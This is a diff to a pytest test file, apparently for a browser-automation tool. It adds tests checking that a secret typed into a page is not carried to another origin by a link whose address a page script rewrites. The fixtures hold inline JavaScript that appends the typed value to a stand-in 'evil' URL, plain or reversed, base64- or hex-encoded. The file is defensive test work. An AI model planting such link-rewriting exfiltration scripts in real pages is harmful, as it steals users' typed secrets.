@@ -184,9 +184,7 @@ async def test_a_form_of_its_own_origin_sent_a_secret_to_another(
         if text == CANARY:
             assert sent, "control: the form works"
         else:
-            assert (
-                sent == [] and typed.status is Status.BLOCKED and "the form sends to http://127.0.0.1" in typed.message
-            )
+            assert sent == [] and typed.status is Status.BLOCKED and "sends to http://127.0.0.1" in typed.message
 
 
 LATER = """<form id=f method=post action="/in"><input aria-label=Q name=p id=q>
@@ -219,6 +217,33 @@ async def test_a_form_changed_its_address_after_a_secret_was_typed(
                 result = await type_text(session, "Q", "x", clear=False, enter=True)
         sent = [body.decode() for _, _, body in evil.requests if CANARY in body.decode()]
         assert (result.status, bool(sent)) == ((Status.OK, True) if text == CANARY else (Status.BLOCKED, False)), way
+
+
+LINKS = ("v", "[...v].reverse().join('')", "btoa('u:' + v)", "[...v].map(c => c.charCodeAt(0).toString(16)).join('')")
+
+
+@pytest.mark.parametrize("how", ["click", "Enter", "at a place"])
+async def test_a_link_carried_a_secret_to_another_origin(opener: Opener, web: Web, evil: Web, how: str) -> None:
+    evil["/in"] = "<p>thank you</p>"
+    for made in LINKS:
+        web["/"] = f"""<a id=a href=/x style="position:absolute;left:8px;top:90px"><b>Next page</b></a>
+            <input aria-label=Q id=q><script>q.oninput = () => {{
+            const v = q.value; a.href = '{evil.url("/in")}?' + {made} }}</script>"""
+        for session, text in await sessions(opener, web, evil):
+            evil.requests.clear()
+            await visit(session, web.url())
+            assert (await type_text(session, "Q", text)).ok
+            match how:
+                case "click":
+                    result = await click(session, "Next page")
+                case "Enter":
+                    await session.execute(Press(keys="Shift+Tab"))
+                    result = await session.execute(Press(keys="Enter"))
+                case _:
+                    result = await session.execute(ClickAt(x=20, y=100))
+            came = evil.hits("/in") > 0
+            assert (result.status, came) == ((Status.OK, True) if text == CANARY else (Status.BLOCKED, False)), made
+            await session.close()
 
 
 async def test_forms_within_the_scope_are_sent(opener: Opener, web: Web, evil: Web) -> None:
